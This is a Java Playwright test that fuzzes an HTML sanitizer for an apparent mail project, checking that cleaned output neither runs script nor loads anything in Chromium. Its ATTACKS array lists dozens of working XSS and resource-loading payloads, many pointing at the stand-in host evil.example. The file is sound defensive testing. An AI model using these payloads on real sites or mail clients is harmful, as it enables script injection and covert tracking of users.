package org.postroom.text;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Route;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.postroom.testkit.Chromium;
import org.postroom.testkit.Tab;
import org.postroom.testkit.WithChromium;

/**
 * What is left of hostile HTML neither runs nor loads anything in a browser whose page forbids
 * nothing. Each attack calls {@code hit()} or asks evil.example for something. A seed given with
 * -Dpostroom.seed repeats a run.
 */
@ExtendWith(WithChromium.class)
class CleanerInChromiumTests {
  private static final int PAGES = Integer.getInteger("postroom.rounds", 20);
  private static final int ATTACKS_A_PAGE = 25;
  private static final String[] ATTACKS = {
    "<script>hit()</script>",
    "<script src=//evil.example/a.js></script>",
    "<img src=x onerror=hit()>",
    "<img src=//evil.example/a.png>",
    "<img src=http://evil.example/a.png>",
    "<img srcset=\"//evil.example/b.png 1x\">",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><image href=//evil.example/s.png></svg>",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=hit()&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
    "<textarea></textarea><img src=x onerror=hit()>",
    "<title></title><img src=x onerror=hit()>",
    "<style></style><img src=x onerror=hit()>",
    "<style>@import url(//evil.example/c.css);</style>",
    "<style>p{background:url(//evil.example/d.png)}</style>",
    "<style>*{background-image:image-set(\"//evil.example/e.png\" 1x)}</style>",
    "<style>@font-face{font-family:q;src:url(//evil.example/f)} *{font-family:q}</style>",
    "<p style=\"background:url('//evil.example/g.png')\">x</p>",
    "<p style=\"background:u\\72l(//evil.example/h.png)\">x</p>",
    "<p style=\"list-style:url(//evil.example/i.png);display:list-item\">x</p>",
    "<p style=\"content:url(//evil.example/j.png)\">x</p>",
    "<p style=\"cursor:url(//evil.example/k.cur),auto\">x</p>",
    "<link rel=stylesheet href=//evil.example/l.css>",
    "<link rel=prefetch href=//evil.example/m>",
    "<iframe src=\"javascript:parent.hit()\"></iframe>",
    "<iframe srcdoc=\"<script>parent.hit()</script>\"></iframe>",
    "<iframe src=//evil.example/n></iframe>",
    "<object data=//evil.example/o></object>",
    "<embed src=//evil.example/p>",
    "<video src=//evil.example/q autoplay></video>",
    "<audio src=//evil.example/r autoplay></audio>",
    "<video poster=//evil.example/s.png></video>",
    "<input type=image src=//evil.example/t.png>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<body onload=hit()>",
    "<body background=//evil.example/u.png>",
    "<table background=//evil.example/v.png><tr><td background=//evil.example/w.png>x</table>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/x\">",
    "<base href=//evil.example/>",
    "<form action=//evil.example/y><button autofocus onfocus=hit()>x</button></form>",
    "<marquee onstart=hit()>x</marquee>",
    "<a href=\"javascript:hit()\">x</a>",
    "<a href=\"java&#10;script:hit()\">x</a>",
    "<a href=\"&#1;javascript:hit()\">x</a>",
    "<a href=\"data:text/html,<script>hit()</script>\">x</a>",
    "<a ping=//evil.example/z href=#>x</a>",
    "<!--><img src=x onerror=hit()>-->",
    "<!--[if true]><img src=x onerror=hit()><![endif]-->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<p class='a\" onclick=hit() x=\"'>x</p>",
    "<p title='&quot;><img src=x onerror=hit()>'>x</p>",
    "<template><img src=x onerror=hit()></template>",
    "<xmp><img src=x onerror=hit()></xmp>",
    "<plaintext>",
    "<select><style></select><img src=x onerror=hit()></style>",
    "<b <script>hit()</script>",
    "<img \u0000src=x onerror=hit()>",
    "<style>a{} </style ><img src=x onerror=hit()>",
    "<style>.x{color:red}/*</style><img src=x onerror=hit()>*/",
    "<p style='color:red;}</style><img src=x onerror=hit()>'>"
  };
  private static final String[] BITS = {
    "<",
    ">",
    "\"",
    "'",
    "/",
    " ",
    "=",
    "&lt;",
    "&#34;",
    "-->",
    "<!--",
    "</style>",
    "</title>",
    "\n",
    "\t",
    "\u0000",
    "`",
    "{",
    "}",
    "<svg>",
    "<math>",
    "<p>",
    "</p>"
  };

  @Test
  void nothingRunsAndNothingLoads(Chromium chromium) {
    long seed = Long.getLong("postroom.seed", System.nanoTime());
    System.out.println("CleanerInChromiumTests seed " + seed);
    Random random = new Random(seed);
    List<String> asked = new ArrayList<>();
    theAttacksWorkAtAll(chromium);
    try (Tab tab = chromium.tab(new Browser.NewContextOptions().setViewportSize(800, 600))) {
      tab.page().route("**/*", route -> answer(route, asked));
      for (int i = 0; i < PAGES; i++) {
        String dirty = dirty(random);
        String clean = MailHtml.inline(MailHtml.clean(dirty));
        assertThat(hits(tab, clean)).as("ran (seed " + seed + "):\n" + clean).isZero();
        assertThat(asked).as("loaded (seed " + seed + "):\n" + clean).isEmpty();
      }
    }
  }

  private static void theAttacksWorkAtAll(Chromium chromium) {
    List<String> asked = new ArrayList<>();
    try (Tab tab = chromium.tab(new Browser.NewContextOptions().setViewportSize(800, 600))) {
      tab.page().route("**/*", route -> answer(route, asked));
      assertThat(hits(tab, String.join("", ATTACKS))).isPositive();
      assertThat(asked).isNotEmpty();
    }
  }

  /** Opens a page with it, clicks every link, and counts what ran. */
  private static int hits(Tab tab, String html) {
    tab.page().navigate("https://page.example/");
    tab.page()
        .evaluate(
            "html => { window.hits = 0; window.hit = () => window.hits++; document.open(); document.write("
                + "'<script>window.hits=window.hits||0;window.hit=()=>window.hits++</' + 'script>' + html); document.close(); }",
            html);
    Object hits =
        tab.page()
            .evaluate(
                "async () => { for (const a of document.querySelectorAll('a')) { a.target = ''; if ((a.protocol || '').startsWith('javascript')) a.click(); }"
                    + " await new Promise(done => requestAnimationFrame(() => setTimeout(done, 30))); return window.hits; }");
    return ((Number) hits).intValue();
  }

  private static void answer(Route route, List<String> asked) {
    if (route.request().url().equals("https://page.example/")) {
      route.fulfill(
          new Route.FulfillOptions().setContentType("text/html").setBody("<!doctype html><p>"));
      return;
    }
    asked.add(route.request().url());
    route.abort();
  }

  private static String dirty(Random random) {
    StringBuilder page = new StringBuilder();
    if (random.nextInt(3) == 0) page.append("<html><head>");
    for (int i = 0; i < ATTACKS_A_PAGE; i++) {
      StringBuilder attack = new StringBuilder(ATTACKS[random.nextInt(ATTACKS.length)]);
      for (int j = random.nextInt(4); j > 0; j--) {
        int at = random.nextInt(attack.length());
        switch (random.nextInt(3)) {
          case 0 -> attack.deleteCharAt(at);
          case 1 -> attack.insert(at, BITS[random.nextInt(BITS.length)]);
          default -> attack.insert(at, ATTACKS[random.nextInt(ATTACKS.length)]);
        }
        if (attack.isEmpty()) attack.append('x');
      }
      page.append(attack);
    }
    return page.toString();
  }
}
